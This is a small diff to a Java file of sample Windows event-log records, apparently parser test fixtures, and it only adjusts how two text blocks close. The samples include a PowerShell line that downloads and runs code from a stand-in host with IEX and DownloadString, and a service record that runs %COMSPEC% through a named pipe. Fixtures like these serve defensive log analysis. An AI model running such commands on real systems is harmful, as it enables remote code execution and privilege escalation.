@@ -69,7 +69,8 @@ record Sample(
           IEX (New-Object Net.WebClient).DownloadString("http://x/ä<y>&z")
 
           ScriptBlock ID: e3013ff9-7017-47b3-9150-dda5a8860adb
-          Path: C:\\Users\\ann\\a.ps1"""
+          Path: C:\\Users\\ann\\a.ps1\
+          """
               .replace("\n", "\r\n"));
 
   static final Sample SERVICE =
@@ -92,7 +93,8 @@ record Sample(
           Service File Name:  %COMSPEC% /c echo x > \\\\.\\pipe\\tbbd05
           Service Type:  user mode service
           Service Start Type:  demand start
-          Service Account:  LocalSystem"""
+          Service Account:  LocalSystem\
+          """
               .replace("\n", "\r\n"));
 
   static final Sample CLEARED =
